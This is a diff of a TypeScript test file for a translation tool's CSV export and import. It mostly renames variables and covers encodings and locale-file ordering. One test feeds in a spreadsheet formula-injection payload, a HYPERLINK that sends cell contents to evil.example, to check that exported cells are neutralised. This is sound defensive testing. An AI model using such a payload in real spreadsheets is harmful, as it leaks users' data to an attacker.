@@ -14,7 +14,7 @@ import { type Files, smallSite, unchecked } from './site'
 
 const numRuns = isLong ? 3000 : 30
 
-/** What an author writes: letters of all scripts, signs that formats have a meaning for, and line breaks. */
+/** Texts of authors: letters of all scripts, special characters of the formats, and line breaks. */
 const text = fc
   .array(
     fc.oneof(
@@ -83,9 +83,9 @@ test.each([
 test.each(['=', '+', '-', '@', '\t', '\r', '\n', ' =', "'=", '＝', '＋', '－', '＠', "''  -"])(
   'no cell of a table that begins with %j is a formula, and it comes back as it was',
   (sign) => {
-    const said = `${sign}HYPERLINK("https://evil.example?x="&A1,"press")`
+    const formula = `${sign}HYPERLINK("https://evil.example?x="&A1,"press")`
     const words: ExchangedWord[] = [
-      { page: 'index', key: 'title', source: said, translation: said, state: 'outdated', said },
+      { page: 'index', key: 'title', source: formula, translation: formula, state: 'outdated', said: formula },
     ]
     const table = writeCsv({ from: 'tr', to: 'de', words })
     const cells = papa.parse<string[]>(table).data.flat()
@@ -98,9 +98,9 @@ const signs = fc.constantFrom(...'=\'+-@;,\t\r\n "a＝－'.split(''))
 
 test('no part of a cell is a formula either, wherever a spreadsheet splits it, and all comes back', () => {
   fc.assert(
-    fc.property(fc.string({ unit: signs }), (said) => {
+    fc.property(fc.string({ unit: signs }), (cellText) => {
       const words: ExchangedWord[] = [
-        { page: 'a', key: 'b', source: `;=1${said}`, translation: said, state: 'missing' },
+        { page: 'a', key: 'b', source: `;=1${cellText}`, translation: cellText, state: 'missing' },
       ]
       const table = writeCsv({ from: 'tr', to: 'de', words })
       const parts = papa.parse<string[]>(table).data.flatMap((row) => row.flatMap((cell) => cell.split(/[;\t\r\n]/)))
@@ -177,7 +177,7 @@ describe('what comes back', () => {
   ])('%s is refused', (_, changes, reason) => {
     const { changed, refused } = take(word(changes))
     expect(changed).toEqual([])
-    expect(refused.map((one) => wordsOf(one))).toEqual([expect.stringContaining(reason)])
+    expect(refused.map((refusal) => wordsOf(refusal))).toEqual([expect.stringContaining(reason)])
   })
 
   test('twice is refused the second time', () => {
@@ -191,7 +191,7 @@ describe('what comes back', () => {
       to: 'en',
       words: [word({ source: marked.blocks[0]?.text, translation: 'Hello *world*' })],
     }
-    expect(importWords(now({ 'pages/index.json': marked }), changed).doubtful.map((one) => wordsOf(one))).toEqual([
+    expect(importWords(now({ 'pages/index.json': marked }), changed).doubtful.map((doubt) => wordsOf(doubt))).toEqual([
       'index blocks.welcome.text: The source has bold words, its translation has none.',
       'index blocks.welcome.text: The source has a list, its translation has none.',
     ])
@@ -206,28 +206,28 @@ describe('a table that comes back', () => {
   const site = unchecked(smallSite, writeLedger({ pages: new Map() }))
   const [words] = exportWords(site, 'en', false)
   const table = writeCsv(words ?? { from: 'tr', to: 'en', words: [] }).slice(1)
-  const said = (text: string) => table.replace(',Hello,', `,${text},`)
+  const withText = (text: string) => table.replace(',Hello,', `,${text},`)
   const utf16 = (text: string) => Buffer.from(text, 'utf16le')
   const imported = (bytes: string | Buffer) =>
     readImport(site, 'tr-en.csv', Buffer.from(bytes)).changed.map(({ of, text }) => [of.file, of.word.key, text])
 
   test.each([
-    ['UTF-8', said('Küche')],
-    ['UTF-8 with a mark', `\uFEFF${said('Küche')}`],
-    ['UTF-16', utf16(`\uFEFF${said('Küche')}`)],
-    ['UTF-16, the other way round', utf16(`\uFEFF${said('Küche')}`).swap16()],
+    ['UTF-8', withText('Küche')],
+    ['UTF-8 with a mark', `\uFEFF${withText('Küche')}`],
+    ['UTF-16', utf16(`\uFEFF${withText('Küche')}`)],
+    ['UTF-16, the other way round', utf16(`\uFEFF${withText('Küche')}`).swap16()],
     [
       'UTF-16 with tabs, as Excel saves it',
-      utf16(`\uFEFF${papa.unparse(papa.parse(said('Küche')).data, { delimiter: '\t' })}`),
+      utf16(`\uFEFF${papa.unparse(papa.parse(withText('Küche')).data, { delimiter: '\t' })}`),
     ],
   ])('in %s is read', (_, bytes) => {
     expect(imported(bytes)).toEqual([['locales/en/index.json', 'blocks.welcome.text', 'Küche']])
   })
 
   test.each([
-    ['in Windows-1252', Buffer.from(said('Küche'), 'latin1')],
+    ['in Windows-1252', Buffer.from(withText('Küche'), 'latin1')],
     ['that is a picture', Buffer.of(0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 1, 2)],
-    ['that lost letters', said('K\uFFFDche')],
+    ['that lost letters', withText('K\uFFFDche')],
     ['of which a column was renamed', table.replace(',en,', ',English,')],
     ['of which the other column was renamed', table.replace(',tr,', ',türkisch,')],
     ['in which the languages changed places', table.replace(',tr,en,', ',en,tr,')],
@@ -240,9 +240,9 @@ describe('a locale file', () => {
   const order = [['title'], ['description'], ['blocks', 'a', 'title'], ['blocks', 'a', 'text'], ['blocks', 'b', 'text']]
 
   test('keeps its form, and gets new words in the order of the page', () => {
-    const before = '{\r\n\t"title": "T",\r\n\t"blocks": {\r\n\t\t"b": { "text": "B" }\r\n\t}\r\n}'
+    const originalText = '{\r\n\t"title": "T",\r\n\t"blocks": {\r\n\t\t"b": { "text": "B" }\r\n\t}\r\n}'
     const after = writeWords(
-      before,
+      originalText,
       [
         { steps: ['blocks', 'a', 'text'], value: 'A' },
         { steps: ['description'], value: 'D' },
@@ -271,14 +271,14 @@ describe('a locale file', () => {
       )
       const keys = keysOf(JSON.parse(after)).filter((key) => old.some((steps) => steps.join('.') === key))
       expect(keys).toEqual(keysOf(JSON.parse(formatted)))
-      for (const line of formatted.split('\n').filter((one) => one.includes('"old"')))
+      for (const line of formatted.split('\n').filter((candidate) => candidate.includes('"old"')))
         if (!added.some((steps) => line.includes(`"${steps.at(-1)}"`))) expect(after).toContain(line.replace(/,$/, ''))
     })
     fc.assert(property, { numRuns })
   })
 })
 
-/** The keys of all texts, in the order of the file. */
+/** Keys of all texts, in the order of the file. */
 function keysOf(json: object, before = ''): string[] {
   return Object.entries(json).flatMap(([key, value]) =>
     typeof value === 'object' ? keysOf(value, `${before}${key}.`) : [`${before}${key}`],
